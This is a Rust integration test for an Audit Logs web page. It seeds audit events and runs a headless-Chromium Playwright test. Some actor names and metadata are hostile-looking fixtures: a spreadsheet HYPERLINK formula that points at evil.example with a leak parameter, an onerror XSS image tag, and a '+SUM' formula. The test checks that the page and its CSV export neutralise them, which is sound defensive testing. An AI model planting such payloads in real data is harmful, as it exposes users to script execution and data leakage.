//! The Security → Audit Logs page in a real browser: the scene is set here on the real engines
//! (indexer + gateway, a producer key, seeded events of one organization, admin and member
//! tokens), then `tests/browser/audit-logs.test.mjs` drives Debian's Chromium through
//! Playwright (`playwright-core`, no bundled browser) and must exit 0.
//!
//! What the browser test checks is listed at the top of that file. Its npm dependencies are
//! installed here when missing (`npm ci`, from the lockfile); Chromium comes from
//! `deploy/local/prereqs.sh`, which `make test` runs.

#![allow(clippy::unwrap_used, clippy::print_stdout)]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use audit_tests::events::Gateway;
use audit_tests::infra::repo_root;
use audit_tests::service::bin_dir;
use audit_tests::{Namespace, Service, ServiceKind, eventually};
use serde_json::{Value, json};

const ORG: &str = "org_browser";
const CHROMIUM: &str = "/usr/bin/chromium";

/// A spreadsheet formula in an actor name: the CSV export must neutralise it with a `'`.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=1\",\"Click me\")";
/// Markup in an actor name: the page must show it as text, never run it.
const MARKUP_NAME: &str = "<img src=x onerror=\"window.__xss=1\">Eve";

/// Seeded events: every product category, both outcomes, users, an API key and a system
/// actor, IPv4 and IPv6, several targets, and hostile-looking text in names and metadata.
fn seed_events() -> Vec<Value> {
    let actors = [
        json!({"type": "user", "id": "user_ada", "name": "Ada Lovelace", "email": "ada@acme.example"}),
        json!({"type": "user", "id": "user_grace", "name": "Grace Hopper", "email": "grace@acme.example"}),
        json!({"type": "user", "id": "user_mallory", "name": FORMULA_NAME, "email": "mallory@evil.example"}),
        json!({"type": "api_key", "id": "key_ci_deploy", "name": "CI deploy key"}),
        json!({"type": "user", "id": "user_eve", "name": MARKUP_NAME, "email": "eve@evil.example"}),
        json!({"type": "system", "id": "billing-engine"}),
    ];
    let actions = [
        ("authentication", "user.login.succeeded", "success"),
        ("authentication", "user.login.failed", "failure"),
        ("user_management", "member.role.changed", "success"),
        ("billing", "billing.payment.failed", "failure"),
        ("service", "resource.config.edited", "success"),
        ("security", "api_key.generated", "success"),
        ("authentication", "user.mfa.enrolled", "success"),
        ("data_access", "data.export.requested", "success"),
        ("billing", "billing.invoice.generated", "success"),
        ("security", "user.password.changed", "success"),
        ("user_management", "member.invite.sent", "success"),
        ("service", "resource.deleted", "success"),
    ];
    let targets = [
        json!([{"type": "user", "id": "user_grace", "name": "Grace Hopper"}]),
        json!([{"type": "resource", "id": "res_db_prod_eu1", "name": "prod-eu-1 database"}]),
        json!([{"type": "invoice", "id": "in_2026_11", "name": "Invoice 2026-11"}, {"type": "customer", "id": "cus_8812"}]),
        json!([{"type": "api_key", "id": "key_terraform", "name": "Terraform"}]),
    ];
    let places = [
        ("203.0.113.7", "Paris, FR"),
        ("198.51.100.23", "Berlin, DE"),
        ("2001:db8::1f", "Austin, US"),
    ];
    let now = time::OffsetDateTime::now_utc();
    (0..36_usize)
        .map(|n| {
            let (category, action, outcome) = actions[n % actions.len()];
            let (ip, location) = places[n % places.len()];
            // Spread over the last day and a half, newest a minute ago.
            let occurred = now - time::Duration::minutes(1 + 53 * n as i64);
            json!({
                "org_id": ORG,
                "occurred_at": occurred.format(&time::format_description::well_known::Rfc3339).unwrap(),
                "category": category,
                "action": action,
                "outcome": outcome,
                // Shifted every round of actions, so each actor meets several categories.
                "actor": actors[(n + n / actions.len()) % actors.len()],
                "targets": targets[n % targets.len()],
                "context": {
                    "ip": ip,
                    "location": location,
                    "user_agent": "Mozilla/5.0 (X11; Linux x86_64) browser-test",
                    "request_id": format!("req_{n:04}"),
                },
                "metadata": {"attempt": n % 3 + 1, "note": if n % 5 == 0 { "+SUM(1,2)" } else { "ok" }},
            })
        })
        .collect()
}

/// `gateway mint-token`, the documented way to get a local token.
fn mint_token(role: &str, subject: &str, email: &str) -> String {
    let output = Command::new(bin_dir().join("gateway"))
        .current_dir(repo_root())
        .args([
            "--config",
            "config/gateway.toml",
            "mint-token",
            "--org",
            ORG,
        ])
        .args(["--role", role, "--subject", subject, "--email", email])
        .env_remove("GATEWAY_CONFIG")
        .output()
        .expect("running gateway mint-token");
    assert!(
        output.status.success(),
        "gateway mint-token failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap().trim().to_string()
}

/// Installs the Node test's dependencies from the lockfile unless they are there already.
fn ensure_npm_dependencies(dir: &Path) {
    let installed = ["playwright-core", "csv-parse"].iter().all(|package| {
        dir.join("node_modules")
            .join(package)
            .join("package.json")
            .exists()
    });
    if installed {
        return;
    }
    let status = Command::new("npm")
        .args(["ci", "--no-audit", "--no-fund"])
        .current_dir(dir)
        .status()
        .expect("npm is installed by deploy/local/prereqs.sh (make test runs it)");
    assert!(status.success(), "npm ci in {} failed", dir.display());
}

/// Where screenshots go: beside the run's service logs when the run names its folder.
fn screenshot_dir() -> PathBuf {
    match std::env::var("AUDIT_TEST_RUNS_DIR") {
        Ok(runs) => Path::new(&runs)
            .parent()
            .map(|parent| parent.join("screenshots"))
            .unwrap_or_else(|| PathBuf::from(runs).join("screenshots")),
        Err(_) => repo_root().join(".local/test/screenshots"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_audit_logs_page_works_in_headless_chromium() {
    assert!(
        Path::new(CHROMIUM).exists(),
        "{CHROMIUM} is missing: deploy/local/prereqs.sh installs it (apt-get install chromium)"
    );
    let browser_dir = repo_root().join("tests/browser");
    ensure_npm_dependencies(&browser_dir);

    let ns = Namespace::new("browser");
    let indexer = Service::start(ServiceKind::Indexer, &ns, &[]).await;
    let gateway = Service::start(ServiceKind::Gateway, &ns, &[]).await;
    let client = Gateway::new(&gateway.url());
    let producer_key = client
        .producer_key(
            "browser-test",
            &[
                "authentication",
                "user_management",
                "billing",
                "service",
                "security",
                "data_access",
            ],
            Some(&[ORG]),
        )
        .await;

    let events = seed_events();
    let (status, body) = client.post_events(&producer_key, &json!(events)).await;
    assert_eq!(status, 202, "seeding: {body}");
    assert_eq!(body["accepted"], events.len(), "seeding: {body}");
    let query = format!("SELECT count() FROM events FINAL WHERE org_id = '{ORG}'");
    eventually(
        "the seeded events queryable in ClickHouse",
        Duration::from_secs(60),
        || async {
            let count = ns.try_sql_u64(&query).await;
            count
                .is_some_and(|n| n >= events.len() as u64)
                .then_some(())
        },
    )
    .await;

    let admin_token = mint_token("admin", "user_secadmin", "secadmin@acme.example");
    let member_token = mint_token("member", "user_member", "member@acme.example");
    let screenshots = screenshot_dir();
    std::fs::create_dir_all(&screenshots).unwrap();

    let output = tokio::task::spawn_blocking({
        let browser_dir = browser_dir.clone();
        let gateway_url = gateway.url();
        let screenshots = screenshots.clone();
        move || {
            Command::new("node")
                .args(["--test", "--test-reporter=spec", "audit-logs.test.mjs"])
                .current_dir(&browser_dir)
                .env("GATEWAY_URL", gateway_url)
                .env("ORG", ORG)
                .env("TOKEN", admin_token)
                .env("MEMBER_TOKEN", member_token)
                .env("PRODUCER_KEY", producer_key)
                .env("SEED_COUNT", events.len().to_string())
                .env("FORMULA_NAME", FORMULA_NAME)
                .env("MARKUP_NAME", MARKUP_NAME)
                .env("CHROMIUM_PATH", CHROMIUM)
                .env("SCREENSHOT_DIR", screenshots)
                .stdin(Stdio::null())
                .output()
                .expect("node is installed by deploy/local/prereqs.sh (make test runs it)")
        }
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    println!("--- node --test audit-logs.test.mjs ---\n{stdout}{stderr}");
    println!("screenshots: {}", screenshots.display());
    assert!(
        output.status.success(),
        "the browser test failed (exit {:?}); output above. Gateway log tail:\n{}",
        output.status.code(),
        gateway.log_tail()
    );
    drop(indexer);
}
